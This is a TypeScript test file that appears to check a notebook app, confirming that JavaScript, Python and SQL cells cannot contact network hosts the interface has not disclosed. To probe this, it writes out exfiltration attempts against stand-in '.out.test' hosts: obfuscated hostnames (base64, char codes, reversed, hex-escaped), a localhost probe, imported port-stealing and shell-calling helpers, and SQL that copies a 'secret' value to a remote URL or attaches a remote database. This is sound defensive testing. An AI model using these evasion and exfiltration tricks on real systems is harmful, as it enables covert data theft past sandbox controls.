import type { TestCell } from '../notebookFile.ts';
import { expect, test } from './attack.ts';
import { JAVASCRIPT_WAYS, PYTHON_WAYS } from './exfiltrationWays.ts';
import { CALL_SHELL, STEAL_PORT } from './portSteal.ts';
import type { Target } from './target.ts';

/** Ways to write a host that its name does not stand in. */
const SPELLINGS: Readonly<Record<string, (host: string) => string>> = {
  joined: (host) => `'${host.slice(0, 4)}' + '${host.slice(4)}'`,
  base64: (host) => `atob('${Buffer.from(host).toString('base64')}')`,
  codes: (host) => `String.fromCharCode(${[...host].map((letter) => letter.charCodeAt(0)).join(',')})`,
  reversed: (host) => `[...'${[...host].reverse().join('')}'].reverse().join('')`,
  escaped: (host) => `'${[...host].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('')}'`,
};
const spell = Object.values(SPELLINGS);

test('JavaScript reaches no host that is not shown, in whatever way', async ({ target }) => {
  const ways = Object.entries(JAVASCRIPT_WAYS).map(
    ([name, code], index) => `attempt(${spell[index % spell.length]!(`${name}.out.test`)}, ${JSON.stringify(code)}),`,
  );
  target.internet.serve('https://named.test/redirect', {
    type: 'text/plain',
    status: 302,
    headers: { Location: 'https://fetch-redirect.out.test/x' },
    body: '',
  });
  await target.openCells([
    {
      id: 'a',
      type: 'module',
      // Made into functions as it runs: a cell that names what it does not know would not.
      text: `${STEAL_PORT}
${CALL_SHELL}
const attempt = async (h, text) => { try { await Promise.race([pause(2000), new Function('h', 'u', 'call', 'sky', 'md', 'html', 'display', 'return (async () => {' + text + '\\n})()')(h, 'ht' + 'tps://' + h + '/x', call, sky, md, html, display)]); } catch {} };
await Promise.all([
${ways.join('\n')}
attempt('', "await fetch('ht' + 'tp://local' + 'host:${target.internet.address.split(':')[1]}/probe')"),
]);
await told('done');`,
    },
  ]);
  await expectOnlyShown(target);
});

test('Python neither', async ({ target }) => {
  const cells = Object.entries(PYTHON_WAYS).map(([name, code]) => {
    const host = `${name}.out.test`;
    return {
      id: name,
      type: 'text/x-python',
      text: `try:\n  _h = '${host.slice(0, 4)}' + '${host.slice(4)}'\n  _u = 'ht' + 'tps://' + _h + '/x'\n  ${code}\nexcept BaseException:\n  pass`,
    } satisfies TestCell;
  });
  await target.openCells([
    ...cells,
    {
      id: 'last',
      type: 'text/x-python',
      text: "from pyodide.http import pyfetch\nawait pyfetch('https://named.test/done')",
    },
  ]);
  await expectOnlyShown(target);
});

test('nor SQL', async ({ target }) => {
  const value = (name: string) =>
    ({
      id: name,
      type: 'module',
      text: `const ${name} = 'ht' + 'tps://' + 'sql-${name}.o' + 'ut.test/x';`,
    }) satisfies TestCell;
  const sql = (id: string, text: string) => ({ id, type: 'application/sql', text }) satisfies TestCell;
  target.internet.serve('https://named.test/led.parquet', {
    type: 'text/plain',
    status: 302,
    headers: { Location: 'https://sql-led.out.test/x.parquet' },
    body: '',
  });
  await target.openCells([
    value('read'),
    sql('reading', 'SELECT * FROM read_csv($read)'),
    sql('joined', "SELECT * FROM read_csv('ht' || 'tps://sql-joined.o' || 'ut.test/x.csv')"),
    sql('parquet', "SELECT * FROM read_parquet(['ht' || 'tps://sql-parquet.o' || 'ut.test/x.parquet'])"),
    sql('written', "COPY (SELECT 'secret') TO (concat('ht', 'tps://sql-written.o', 'ut.test/x.csv'))"),
    sql('attached', "ATTACH 'htt' || 'ps://sql-attached.out.test/x.db' AS other"),
    sql('led', "SELECT * FROM 'https://named.test/led.parquet'"),
    sql('extension', 'INSTALL spatial; LOAD spatial'),
    { id: 'last', type: 'module', text: "await fetch('https://named.test/done'); 'done'" },
  ]);
  await target.runAll();
  for (const id of ['reading', 'joined', 'parquet', 'written', 'attached', 'led', 'extension', 'last'])
    await expect(target.cell(id)).toHaveAttribute('data-state', /shown|failed/);
  await expectShown(target, await target.shownHosts());
});

/** Where Python looks for the packages that cells import, as the bar says of every notebook. */
const EVERY_NOTEBOOKS: readonly string[] = ['pypi.org', 'files.pythonhosted.org'];

/** Runs the notebook; what hears of it must be among the hosts that the bar showed before. */
async function expectOnlyShown(target: Target): Promise<void> {
  const before = await target.shownHosts();
  await target.runToEnd(90_000);
  await expectShown(target, before);
}

async function expectShown(target: Target, shown: readonly string[]): Promise<void> {
  await target.internet.asked('named.test');
  await target.settle();
  expect.soft(shown, 'the hosts of an opened link').not.toContain('*');
  expect.soft(await target.shownHosts(), 'hosts that were added without a word').toEqual(shown);
  expect
    .soft(
      target.reached().filter((host) => !shown.includes(host) && !EVERY_NOTEBOOKS.includes(host)),
      'hosts that were reached and not shown',
    )
    .toEqual([]);
  expect.soft(target.dialogs).toEqual([]);
}
